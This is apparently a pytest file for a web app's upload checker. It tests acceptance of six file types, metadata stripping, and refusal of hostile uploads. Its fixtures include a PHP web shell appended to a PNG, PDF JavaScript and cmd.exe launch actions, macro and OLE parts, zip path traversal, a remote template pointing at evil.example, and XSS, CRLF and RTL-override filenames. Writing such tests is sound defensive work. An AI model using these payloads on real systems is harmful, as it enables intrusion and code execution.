"""What is taken as a file, and every way of passing for one (security.md §3, uploads)."""

import zlib
from io import BytesIO

import pytest
from flask import Flask
from openpyxl import Workbook
from PIL import Image

from cocreation.attachments import refusals
from cocreation.attachments.checking import MOST_BYTES, check
from cocreation.attachments.images import LONGEST_SIDE
from cocreation.attachments.refusals import BadFile
from tests.attachments import material

LETTER, ODT = material.letter(), material.archive(material.odt_parts())


@pytest.fixture(autouse=True)
def _words(app: Flask) -> object:
    with app.test_request_context("/fr/"):
        yield


def refused(content: bytes, name: str) -> str:
    with pytest.raises(BadFile) as caught:
        check(content, name)
    return caught.value.message


@pytest.mark.parametrize(
    ("content", "name", "media_type"),
    [
        (material.paper(), "مقترح.pdf", "application/pdf"),
        (LETTER, "رسالة الجمعية.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (ODT, "Lettre à la commune.odt", "application/vnd.oasis.opendocument.text"),
        (material.picture("PNG"), "plan.PNG", "image/png"),
        (material.picture("JPEG"), "photo.jpeg", "image/jpeg"),
        (material.picture("WEBP"), "photo.webp", "image/webp"),
    ],
)
def test_the_six_kinds_are_taken_under_their_own_name(content: bytes, name: str, media_type: str) -> None:
    checked = check(content, name)
    assert (checked.media_type, checked.name) == (media_type, name)
    assert media_type.startswith("image/") or checked.content == content


def test_a_photograph_is_upright_and_says_no_more_where_it_was_taken() -> None:
    sent = material.photograph()
    assert all(words in sent for words in (b"Appareil secret", b"33.97", b"un mot cache"))
    kept = check(sent, "photo.jpg").content
    with Image.open(BytesIO(kept)) as image:
        assert image.size == (40, 80)
        assert not image.getexif()
        assert not {"comment", "exif", "icc_profile", "xmp"} & set(image.info)
    assert not any(words in kept for words in (b"Appareil secret", b"33.97", b"un mot cache"))


def test_a_png_with_a_programme_behind_it_keeps_its_points_alone() -> None:
    sent = material.picture("PNG") + b"<?php system($_GET['c']); ?>"
    kept = check(sent, "logo.png").content
    assert b"<?php" not in kept
    with Image.open(BytesIO(kept)) as image:
        assert image.getpixel((5, 5)) == (20, 90, 60)


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "I;16"])
def test_every_sort_of_png_is_drawn_anew(mode: str) -> None:
    with Image.open(BytesIO(check(material.picture("PNG", mode=mode), "a.png").content)) as image:
        assert image.size == (60, 40)


def test_printers_colours_become_screens_colours() -> None:
    with Image.open(BytesIO(check(material.picture("JPEG", mode="CMYK"), "a.jpg").content)) as image:
        assert image.mode == "RGB"


def test_a_large_image_is_reduced() -> None:
    with Image.open(BytesIO(check(material.picture("PNG", (5_000, 100)), "a.png").content)) as image:
        assert image.size == (LONGEST_SIDE, 48)


def test_a_hundred_million_points_are_refused_before_they_are_unpacked() -> None:
    assert refused(material.huge_png(), "a.png") == refusals.TOO_MANY_PIXELS


@pytest.mark.parametrize(
    "content",
    [
        material.picture("PNG", (600, 400))[:-40],
        b"\x89PNG\r\n\x1a\n",
        b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
        material.huge_png(50, 50),
    ],
)
def test_a_cut_off_image_is_refused(content: bytes) -> None:
    assert refused(content, "a.png") == refusals.DAMAGED


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"", "vide.pdf", refusals.EMPTY),
        (b"%PDF-1.7\n" + b"0" * MOST_BYTES, "grand.pdf", refusals.TOO_LARGE),
        (b'<svg onload="alert(1)"/>', "dessin.svg", refusals.UNKNOWN),
        (b'<svg onload="alert(1)"/>', "dessin.png", refusals.UNKNOWN),
        (b"<!doctype html><script>alert(1)</script>", "page.pdf", refusals.UNKNOWN),
        (b"MZ\x90\0", "photo.jpg", refusals.UNKNOWN),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 900, "ancien.doc", refusals.UNKNOWN),
        (b"GIF89a" + b"\0" * 40, "a.gif", refusals.UNKNOWN),
        (material.picture("PNG"), "photo.pdf", refusals.WRONG_NAME),
        (material.picture("PNG"), "photo.png.exe", refusals.WRONG_NAME),
        (material.picture("PNG"), "photo", refusals.WRONG_NAME),
        (material.paper(), "lettre.docx", refusals.WRONG_NAME),
        (LETTER, "lettre.odt", refusals.WRONG_NAME),
        (LETTER, "lettre.docm", refusals.WRONG_NAME),
        (material.archive({"a.txt": b"a"}), "a.zip", refusals.UNKNOWN),
        (material.archive({"a.txt": b"a"}), "a.docx", refusals.UNKNOWN),
    ],
)
def test_what_is_something_else_is_refused_with_what_to_do(content: bytes, name: str, message: str) -> None:
    assert refused(content, name) == message


def test_a_table_called_a_letter_is_refused() -> None:
    out = BytesIO()
    Workbook().save(out)
    assert refused(out.getvalue(), "tableau.docx") == refusals.UNKNOWN


@pytest.mark.parametrize(
    ("before", "after", "message"),
    [
        (b"trailer", b"trailer /Encrypt 9 0 R", refusals.LOCKED),
        (b"trailer", b"trailer /OpenAction << /S /JavaScript /JS (app.alert(1)) >>", refusals.ACTIVE),
        (b"trailer", b"trailer /OpenAction << /S /J#61va#53cript /JS (app.alert(1)) >>", refusals.ACTIVE),
        (b"trailer", b"trailer /OpenAction << /S /Launch /F (cmd.exe) >>", refusals.ACTIVE),
        (b"trailer", b"trailer /Names << /EmbeddedFiles 3 0 R >>", refusals.ACTIVE),
        (b"startxref", b"start", refusals.DAMAGED),
        (b"%%EOF", b"", refusals.DAMAGED),
        (b"%PDF-1.", b"%PDF-x.", refusals.DAMAGED),
    ],
)
def test_a_pdf_that_acts_or_is_locked_or_cut_is_refused(before: bytes, after: bytes, message: str) -> None:
    plain = (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n"
        b"trailer << /Root 1 0 R /Size 2 >>\nstartxref\n50\n%%EOF\n"
    )
    plain = plain.replace(b"startxref\n50", b"startxref\n%d" % plain.index(b"xref"))
    assert check(plain, "a.pdf").content == plain
    assert refused(plain.replace(before, after, 1), "a.pdf") == message


SCRIPT = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    ("head", "packed", "message"),
    [
        (b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(SCRIPT), refusals.ACTIVE),
        (b"/Type /Obj#53tm /Filter /FlateDecode", zlib.compress(SCRIPT), refusals.ACTIVE),
        (b"/Filter /ASCIIHexDecode /Type /ObjStm", SCRIPT.hex().encode() + b">", refusals.DAMAGED),
        (b"/Type /ObjStm /Filter [/A#48x /FlateDecode]", zlib.compress(SCRIPT).hex().encode(), refusals.DAMAGED),
        (
            b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
            zlib.compress(SCRIPT), refusals.DAMAGED,
        ),
    ],
)  # fmt: skip
def test_a_script_packed_inside_a_pdf_is_found(head: bytes, packed: bytes, message: str) -> None:
    hidden = b"7 0 obj << " + head + b" /N 1 >>\nstream\n" + packed + b"\nendstream\nendobj\n"
    whole = material.paper()
    end = whole.rindex(b"startxref")
    assert refused(whole[:end] + hidden + whole[end:], "a.pdf") == message


@pytest.mark.parametrize(
    ("changed", "message"),
    [
        ({"word/vbaProject.bin": b"\0"}, refusals.ACTIVE),
        ({"word/activeX/activeX1.xml": b"<a/>"}, refusals.ACTIVE),
        ({"word/embeddings/oleObject1.bin": b"\0"}, refusals.ACTIVE),
        ({"../../etc/passwd": b"root"}, refusals.DAMAGED),
        ({"/etc/passwd": b"root"}, refusals.DAMAGED),
        ({f"word/media/{number}.png": b"" for number in range(1_001)}, refusals.DAMAGED),
        (
            {
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
            },
            refusals.ACTIVE,
        ),
        ({"[Content_Types].xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><Types/>'}, refusals.ACTIVE),
    ],
)
def test_a_document_that_acts_or_reaches_out_is_refused(changed: dict[str, bytes], message: str) -> None:
    assert refused(material.archive({**material.parts_of(LETTER), **changed}), "a.docx") == message


TEMPLATE = (
    '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="r1" '
    'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" TargetMode="&#69;xternal" '
    'Target="https://evil.example/x.dotm"/></r:Relationships>'
)


@pytest.mark.parametrize(
    ("links", "message"),
    [
        (TEMPLATE.encode(), refusals.ACTIVE),
        (TEMPLATE.encode("utf-16"), refusals.DAMAGED),
        ((" " * 1_100_000 + TEMPLATE).encode(), refusals.DAMAGED),
        (b"<Relationships>", refusals.DAMAGED),
    ],
)
def test_a_template_from_elsewhere_is_found_however_it_is_spelled(links: bytes, message: str) -> None:
    parts = {**material.parts_of(LETTER), "word/_rels/settings.xml.rels": links}
    assert refused(material.archive(parts, packing=0), "a.docx") == message


def test_a_link_to_the_web_in_a_document_is_no_harm() -> None:
    links = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>'
    )
    parts = {**material.parts_of(LETTER), "word/_rels/footnotes.xml.rels": links}
    assert check(material.archive(parts), "a.docx").suffix == ".docx"


def test_a_document_that_unpacks_a_thousandfold_is_refused() -> None:
    assert refused(material.bomb(), "a.docx") == refusals.DAMAGED


@pytest.mark.parametrize("part", ["Basic/Standard/Module1.xml", "Scripts/python/x.py", "Object 1/content.xml"])
def test_an_opendocument_with_macros_is_refused(part: str) -> None:
    assert refused(material.archive({**material.odt_parts(), part: b"x"}), "a.odt") == refusals.ACTIVE


def test_a_locked_opendocument_is_refused() -> None:
    parts = {**material.odt_parts(), "META-INF/manifest.xml": b"<manifest:encryption-data/>"}
    assert refused(material.archive(parts), "a.odt") == refusals.LOCKED


@pytest.mark.parametrize("cut", [10, 100, len(LETTER) - 30])
def test_a_cut_off_archive_is_refused(cut: int) -> None:
    assert refused(LETTER[:cut], "a.docx") == refusals.DAMAGED


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.png", "etc_passwd.png"),
        ("C:\\Users\\a\\plan.png", "C_Users_a_plan.png"),
        ("facture\u202egpj.png", "facturegpj.png"),
        ("é" * 300 + ".png", "é" * 146 + ".png"),
        ("a\r\nSet-Cookie: x.png", "aSet-Cookie_ x.png"),
        ("<svg onload=alert(1)>.png", "svg onload=alert(1)_.png"),
        ("مقترح الميزانية ٢٠٢٠.png", "مقترح الميزانية ٢٠٢٠.png"),
    ],
)
def test_a_name_is_shown_as_given_and_leads_nowhere(sent: str, kept: str) -> None:
    assert check(material.picture("PNG"), sent).name == kept
